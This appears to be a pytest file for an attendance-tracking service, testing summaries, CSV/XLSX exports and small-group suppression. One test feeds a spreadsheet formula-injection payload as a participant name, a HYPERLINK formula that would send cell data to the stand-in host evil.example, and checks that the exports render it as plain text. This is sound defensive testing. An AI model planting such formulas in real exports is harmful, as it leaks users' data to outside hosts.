"""Attendance counted from the marks: the summary as JSON-ready data and the exports
(services/attendance_figures.py); the overview's figures are checked against the summary in
test_dashboard_figures.py."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from cohort import db, services
from cohort.core.attendance import ABSENT, EXCUSED, PRESENT, Mark
from cohort.core.participants import ParticipantRow
from tests.fixtures.attendance import PEOPLE, ids_by_first_name, record_marks


@pytest.fixture
def cohort_id(engine, make_cohort):
    return make_cohort(engine, people=PEOPLE).id


def test_summary_export_csv_and_xlsx(engine, cohort_id):
    who = ids_by_first_name(engine, cohort_id)
    everyone = {pid: Mark(PRESENT) for pid in who.values()}
    record_marks(engine, cohort_id, "kickoff", {**everyone, who["Lars"]: Mark(ABSENT)})
    record_marks(engine, cohort_id, "workshop-1", {**everyone, who["Lars"]: Mark(EXCUSED, "syg"),
                                                who["Anne"]: Mark(ABSENT)})
    with db.transaction(engine) as session:
        data = services.attendance_as_dict(session, cohort_id, min_group=5)
        small = services.attendance_as_dict(session, cohort_id, min_group=8)
        csv_bytes = services.export_attendance_csv(session, cohort_id)
        xlsx_bytes = services.export_attendance_xlsx(session, cohort_id)
    kickoff = data["meetings"][0]
    assert (kickoff["key"], kickoff["present"], kickoff["absent"]) == ("kickoff", 6, 1)
    assert kickoff["rate"] == round(6 / 7, 4) and not kickoff["suppressed"]
    assert data["follow_up"] == ["lars.jensen@vejle-kommune.example"]
    assert data["distribution"] == [dict(attended=0, participants=1),
                                    dict(attended=1, participants=1),
                                    dict(attended=2, participants=5)]
    assert small["meetings"][0]["rate"] is None and small["meetings"][0]["suppressed"]
    assert small["distribution"] is None

    assert csv_bytes.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["name", "email", "organisation", "kickoff", "workshop-1"]
    lars = next(r for r in rows if r[0] == "Lars Jensen")
    assert lars[3:5] == ["absent", "excused"] and lars[-2:] == ["0", "2"]

    book = load_workbook(io.BytesIO(xlsx_bytes))
    sheet = book["Attendance"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == rows[0]
    assert any(r[0] == "Søren Østergaard" and r[3] == "present" for r in values)
    meetings = [[c.value for c in row] for row in book["Meetings"].iter_rows()]
    assert meetings[1][:6] == ["kickoff", "Kick-off-webinar", 6, 1, 0, 0]


def test_exports_write_names_as_text_not_formulas(engine, make_cohort):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    cohort = make_cohort(engine, people=[
        ParticipantRow(evil, "evil@x.example", "@SUM(1+1)"),
        ParticipantRow("Anne", "anne@x.example", "Vejle, Kommune")])
    with db.transaction(engine) as session:
        csv_bytes = services.export_attendance_csv(session, cohort.id)
        xlsx_bytes = services.export_attendance_xlsx(session, cohort.id)
    text = csv_bytes.decode("utf-8-sig")
    rows = {r[1]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
    assert rows["evil@x.example"][0] == "'" + evil and rows["evil@x.example"][2] == "'@SUM(1+1)"
    assert '"Vejle, Kommune"' in text
    sheet = load_workbook(io.BytesIO(xlsx_bytes))["Attendance"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (evil, "@SUM(1+1)")]
    assert len(cells) == 2 and {c.data_type for c in cells} == {"s"}


def test_the_evaluators_attendance_per_meeting_has_counts_and_hides_small_groups(
        engine, cohort_id):
    """The export behind the report's attendance figures: per recorded meeting, counts and
    no one's name; a meeting recorded for fewer than the minimum group size (5) shows only
    how many were recorded, as the report does; a meeting nobody recorded is left out."""
    who = ids_by_first_name(engine, cohort_id)
    everyone = {pid: Mark(PRESENT) for pid in who.values()}
    record_marks(engine, cohort_id, "kickoff", {**everyone, who["Lars"]: Mark(ABSENT),
                                                who["Anne"]: Mark(EXCUSED, "syg")})
    record_marks(engine, cohort_id, "workshop-1", {who["Lars"]: Mark(PRESENT),
                                                   who["Anne"]: Mark(ABSENT)})
    with db.transaction(engine) as session:
        table = services.attendance_per_meeting(session, cohort_id)
        summary = services.attendance_summary(session, cohort_id, min_group=5)
    assert table.columns == ["meeting", "title", "date", "participants", "recorded",
                             "present", "absent", "excused", "attendance"]
    kickoff, workshop = table.rows
    assert kickoff[0] == "kickoff" and kickoff[3:] == [7, 7, 5, 1, 1, round(5 / 7, 4)]
    assert summary.published("kickoff") and not summary.published("workshop-1")
    assert workshop[0] == "workshop-1" and workshop[3:] == [7, 2, None, None, None, None]
    text = repr(table.rows)
    assert not any(p.name in text or p.email in text for p in PEOPLE) and "syg" not in text
